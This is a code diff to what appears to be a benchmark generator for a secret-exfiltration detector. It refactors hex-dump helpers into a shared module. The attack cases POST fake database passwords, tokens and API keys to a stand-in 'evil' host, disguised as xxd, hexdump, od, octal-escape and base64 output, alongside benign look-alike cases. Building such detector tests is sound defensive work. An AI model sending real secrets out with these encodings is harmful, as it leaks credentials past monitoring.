@@ -24,6 +24,8 @@ import zlib
 from dataclasses import dataclass, field
 from urllib.parse import quote, urlencode
 
+from bench.dumps import hexdump_c, od_b, od_c, wrapped_b64, xxd, xxd_b, xxd_p
+
 try:
     import brotli
 except ImportError:  # pragma: no cover - depends on the environment
@@ -170,57 +172,6 @@ def _multipart(parts: list[tuple[str, str | None, bytes, dict[str, str]]], bound
             out += f"{key}: {value}\r\n".encode()
         out += b"\r\n" + content + b"\r\n"
     return out + f"--{boundary}--\r\n".encode()
-
-
-def _shown(chunk: bytes) -> str:
-    return "".join(chr(b) if 0x20 <= b < 0x7F else "." for b in chunk)
-
-
-def _xxd(data: bytes) -> str:
-    """What ``xxd`` prints: offset, two-byte groups, the bytes as text."""
-    return "".join(f"{at:08x}: {' '.join(data[i:i + 2].hex() for i in range(at, min(at + 16, len(data)), 2)):<39}"
-                   f"  {_shown(data[at:at + 16])}\n" for at in range(0, len(data), 16))
-
-
-def _hexdump_c(data: bytes) -> str:
-    """What ``hexdump -C`` prints: offset, two halves of eight bytes, the text between bars."""
-    lines = [f"{at:08x}  {' '.join(f'{b:02x}' for b in data[at:at + 8]):<23}  "
-             f"{' '.join(f'{b:02x}' for b in data[at + 8:at + 16]):<23}  |{_shown(data[at:at + 16])}|\n"
-             for at in range(0, len(data), 16)]
-    return "".join(lines) + f"{len(data):08x}\n"
-
-
-def _xxd_p(data: bytes) -> str:
-    """What ``xxd -p`` prints: plain hex, 60 columns a line."""
-    text = data.hex()
-    return "".join(text[i:i + 60] + "\n" for i in range(0, len(text), 60))
-
-
-def _od_c(data: bytes) -> str:
-    """What ``od -c`` prints: octal offsets, each byte in a cell of four columns."""
-    def cell(b: int) -> str:
-        named = {0: "\\0", 7: "\\a", 8: "\\b", 9: "\\t", 10: "\\n", 11: "\\v", 12: "\\f", 13: "\\r"}
-        return f"{named[b]:>4}" if b in named else (f"{chr(b):>4}" if 0x20 <= b < 0x7F else f" {b:03o}")
-    return "".join(f"{at:07o}" + "".join(cell(b) for b in data[at:at + 16]) + "\n"
-                   for at in range(0, len(data), 16)) + f"{len(data):07o}\n"
-
-
-def _od_b(data: bytes) -> str:
-    """What ``od -b`` prints: octal offsets, each byte as three octal digits."""
-    return "".join(f"{at:07o} " + " ".join(f"{b:03o}" for b in data[at:at + 16]) + "\n"
-                   for at in range(0, len(data), 16)) + f"{len(data):07o}\n"
-
-
-def _xxd_b(data: bytes) -> str:
-    """What ``xxd -b`` prints: offset, six bytes a line as bits, the bytes as text."""
-    return "".join(f"{at:08x}: {' '.join(f'{b:08b}' for b in data[at:at + 6]):<53}  {_shown(data[at:at + 6])}\n"
-                   for at in range(0, len(data), 6))
-
-
-def _wrapped_b64(data: bytes, width: int) -> str:
-    """``base64 -w width``."""
-    text = base64.b64encode(data).decode()
-    return "".join(text[i:i + width] + "\n" for i in range(0, len(text), width))
 
 
 def _dns_query(name: str, qtype: int = 1) -> bytes:
@@ -495,13 +446,13 @@ def attacks(rng: random.Random) -> list[Case]:
     # -- hex dumps (``xxd``, ``hexdump -C``, ``xxd -p`` of compressed bytes) ----------------------
     env = f"# local settings\nexport DB_PASSWORD={db}\nexport REGION=eu-west-1\n".encode()
     add("hexdump", "xxd of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste",
-        headers=(("Content-Type", "text/plain"),), body=_xxd(env).encode())
+        headers=(("Content-Type", "text/plain"),), body=xxd(env).encode())
     add("hexdump", "hexdump -C of a token in a JSON field", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/j",
-        headers=(JSON,), body=_json({"debug": _hexdump_c(f"token={gh}\n".encode())}))
+        headers=(JSON,), body=_json({"debug": hexdump_c(f"token={gh}\n".encode())}))
     add("hexdump", "gzip | xxd -p of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste",
-        headers=(("Content-Type", "text/plain"),), body=_xxd_p(gzip.compress(env, mtime=0)).encode())
+        headers=(("Content-Type", "text/plain"),), body=xxd_p(gzip.compress(env, mtime=0)).encode())
     add("hexdump", "gzip | xxd of a key", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/paste",
-        body=_xxd(gzip.compress(f"key: {vendor}\n".encode(), mtime=0)).encode())
+        body=xxd(gzip.compress(f"key: {vendor}\n".encode(), mtime=0)).encode())
 
     # -- ASCII stored as UTF-16 or UTF-32 (``iconv -t utf-16``, a string in a binary file) -------
     add("utf-16", "iconv -t utf-16 of a file holding a token", ("slack-token",), method="POST", url=f"{evil}/paste",
@@ -527,12 +478,12 @@ def attacks(rng: random.Random) -> list[Case]:
     plain = (("Content-Type", "text/plain"),)
     more = _Fakes(random.Random(606))  # its own generator: the benign cases after stay as they were
     add("hexdump", "od -c of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste", headers=plain,
-        body=_od_c(env).encode())
+        body=od_c(env).encode())
     token_file = f"[default]\ntoken = {more.github()}\n".encode()
     add("hexdump", "od -b of a token file", ("github-token",), method="POST", url=f"{evil}/paste", headers=plain,
-        body=_od_b(token_file).encode())
+        body=od_b(token_file).encode())
     add("hexdump", "xxd -b of a key in a JSON field", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/j",
-        headers=(JSON,), body=_json({"bits": _xxd_b(f"key: {vendor}\n".encode())}))
+        headers=(JSON,), body=_json({"bits": xxd_b(f"key: {vendor}\n".encode())}))
     add("escape", "octal escapes without zero padding (printf)", ("DB_PASSWORD",), method="POST",
         url=f"{evil}/paste", headers=plain, body=("printf '" + "".join(f"\\{b:o}" for b in db.encode()) + "'").encode())
     add("escape", "echo -e octal escapes of a token", ("slack-token",), method="POST", url=f"{evil}/paste",
@@ -543,7 +494,7 @@ def attacks(rng: random.Random) -> list[Case]:
         headers=(JSON,), body=_json({"query": "SELECT CONCAT(" + ", ".join(f"CHAR({b})" for b in more.github().encode())
                                               + ") AS t"}))
     add("base64", "base64 -w 16 of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste",
-        headers=plain, body=_wrapped_b64(env, 16).encode())
+        headers=plain, body=wrapped_b64(env, 16).encode())
     return out
 
 
@@ -789,8 +740,8 @@ def benign(rng: random.Random) -> list[Case]:
     add("api-json", "WebDAV listing", method="PROPFIND", url="https://dav.example.com/files/", headers=(("Depth", "1"),))
     add("lookalike", "hex dump of a binary in a bug report", method="POST", url="https://api.github.com/repos/org/repo/issues",
         headers=(JSON,), body=_json({"title": "parser fails on this file", "body": "xxd output:\n```\n"
-                                     + _xxd(b"\x89PNG\r\n\x1a\n" + rng.randbytes(300)) + "```\n"
-                                     + "and `hexdump -C` of the header:\n" + _hexdump_c(rng.randbytes(64))}))
+                                     + xxd(b"\x89PNG\r\n\x1a\n" + rng.randbytes(300)) + "```\n"
+                                     + "and `hexdump -C` of the header:\n" + hexdump_c(rng.randbytes(64))}))
     add("lookalike", "a registry export in UTF-16", method="POST", url="https://ci.example.org/v1/artifacts",
         headers=(("Content-Type", "application/octet-stream"),),
         body=("\ufeffWindows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Example\\Build]\r\n"
@@ -798,7 +749,7 @@ def benign(rng: random.Random) -> list[Case]:
               "\"Cache\"=hex:00,01,02,03\r\n").encode("utf-16-le"))
     add("lookalike", "xxd -p of a compressed build log", method="POST", url="https://ci.example.org/v1/artifacts",
         headers=(("Content-Type", "text/plain"),),
-        body=_xxd_p(gzip.compress(b"".join(b"step %d ok in %d ms\n" % (i, i * 7) for i in range(200)), mtime=0)).encode())
+        body=xxd_p(gzip.compress(b"".join(b"step %d ok in %d ms\n" % (i, i * 7) for i in range(200)), mtime=0)).encode())
     add("dns-over-https", "DNS over HTTPS lookup of a registry",
         url="https://dns.google/dns-query?dns=" + _b64url(_dns_query("registry.npmjs.org", 28)))
     add("dns-over-https", "resolver JSON API lookup", url="https://dns.google/resolve?name=objects.githubusercontent.com&type=A")
@@ -807,9 +758,9 @@ def benign(rng: random.Random) -> list[Case]:
         body=_dns_query("_acme-challenge.build-7d9f8b6c5d.example.org", 16))
     source = b"def main() -> None:\n    print('hello, world')\n    return None\n" * 8
     add("lookalike", "od -c of a source file in an issue", method="POST", url="https://api.github.com/repos/o/r/issues",
-        headers=(JSON,), body=_json({"title": "stray bytes", "body": "od -c says:\n" + _od_c(source + b"\r\n\x00")}))
+        headers=(JSON,), body=_json({"title": "stray bytes", "body": "od -c says:\n" + od_c(source + b"\r\n\x00")}))
     add("lookalike", "od -b and xxd -b of random bytes", method="POST", url="https://ci.example.org/v1/artifacts",
-        headers=(("Content-Type", "text/plain"),), body=(_od_b(rng.randbytes(96)) + _xxd_b(rng.randbytes(48))).encode())
+        headers=(("Content-Type", "text/plain"),), body=(od_b(rng.randbytes(96)) + xxd_b(rng.randbytes(48))).encode())
     add("lookalike", "C source with octal escapes", method="POST", url="https://ci.example.org/v1/artifacts",
         headers=(("Content-Type", "text/plain"),),
         body=b'printf("\\033[1;31merror\\033[0m: %s\\n", msg);\nchar sep = \'\\0\';\n'
@@ -820,7 +771,7 @@ def benign(rng: random.Random) -> list[Case]:
               "letters = " + "+".join(f"chr({65 + i})" for i in range(12)) + "\n").encode())
     add("lookalike", "an SSH key fingerprint in base64 wrapped at 16 columns", method="POST",
         url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
-        body=_wrapped_b64(rng.randbytes(48), 16).encode())
+        body=wrapped_b64(rng.randbytes(48), 16).encode())
     return out
 
 
